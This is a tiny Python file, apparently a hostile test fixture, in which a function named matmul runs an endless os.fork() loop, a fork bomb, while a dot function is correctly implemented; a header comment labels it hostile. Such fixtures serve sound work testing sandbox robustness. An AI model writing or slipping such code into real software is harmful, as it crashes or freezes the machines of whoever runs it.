# Hostile: forks without end inside matmul; dot is correct.
import os

import numpy as np


def matmul(A, B):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def dot(u, v):
    return float(np.dot(u, v))
